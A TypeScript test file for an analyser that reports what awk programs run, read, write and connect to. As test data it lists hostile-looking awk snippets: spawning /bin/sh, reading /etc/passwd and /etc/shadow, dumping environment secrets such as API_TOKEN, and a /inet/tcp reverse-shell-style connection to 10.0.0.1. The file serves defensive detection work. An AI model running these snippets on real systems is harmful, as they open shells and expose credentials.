import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands programs that only filter', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['{print $1}', 'ok'],
    ['$3>=1000{print $1}', 'ok'],
    ['NR%3==1', 'ok'],
    ['{s+=$1} END {print s}', 'ok'],
    ['NR==FNR{m[$1]=$2" "$3; next} {print $0, m[$1]}', 'ok'],
    ['/Model name/ {gsub(/^[ \\t]+/, "", $2); print $2; exit}', 'ok'],
    ['!seen[$1]++', 'ok'],
    ['{print substr($5, 1, length($5)-1)}', 'ok'],
    ['{ if ($1 > 5) print $1 }', 'ok'],
    ['{print ($1 > 2)}', 'ok'],
    ['{print $1/$2, $3/2}', 'ok'],
    ['$0 !~ last "/" {print last} {last=$0} END {print last}', 'ok'],
    ['BEGIN { RS="\\0"; ORS="\\0"; FS="" } NR > 5 { sub("^[0-9]*(.[0-9]*)? ", ""); print }', 'ok'],
    ['function f(x){return x*2} {print f($1)}', 'ok'],
    ['{printf "%s\\n", $0 > "/dev/stderr"}', 'ok'],
    ['1 { for (i=NF; i>0; i--) printf "%s ", $i; print "" }', 'ok'],
    ['BEGIN{print ENVIRON["HOME"]}', 'ok'],
    ['while ((getline line) > 0) n++', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('awk', code), expected, code);
});

test('notes what is run, read, written and connected to', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['BEGIN {system("/bin/sh")}', 'ok shell=/bin/sh'],
    ['BEGIN {c = "id"; system(c)}', 'ok shell=id shell=?'],
    ['{system("rm " $1)}', 'ok shell=?'],
    ['{print | "sort -u"}', 'ok shell=sort -u'],
    ['"date" | getline d', 'ok shell=date'],
    ['BEGIN{"id" "x" | getline; print}', 'ok shell=?'],
    ['BEGIN { print "DATA" > "/path/x" }', 'ok write=/path/x'],
    ['{print >> "log"; close("log")}', 'ok write=log'],
    ['{print > $1".txt"}', 'ok write=?'],
    ['{print $1,\n$2 > "out"}', 'ok write=out'],
    ['BEGIN{while((getline l < "/etc/passwd")>0) print l}', 'ok read=/etc/passwd'],
    ['{while ((getline l < $1) > 0) print l}', 'ok read=?'],
    ['BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; printf "shell>" |& s; s |& getline c}', 'ok connect=10.0.0.1'],
    ['BEGIN{print ENVIRON["API_TOKEN"]}', 'ok secret=API_TOKEN'],
    ['BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}', 'ok secret=? secret=?'],
    ['BEGIN{ARGV[1]="/etc/shadow"; ARGC=2}', 'ok read=/etc/shadow'],
    ['{if (1) /"/; system("id") ; "/"}', 'ok shell=id'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('awk', code), expected, code);
});

test('does not understand what cannot be seen', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['BEGIN{x="sys" "tem"; @x("id")}', 'no'],
    ['@load "filefuncs"', 'no'],
    ['BEGIN{frobnicate(1)}', 'no'],
    ['{print "a', 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('awk', code), expected, code);
});
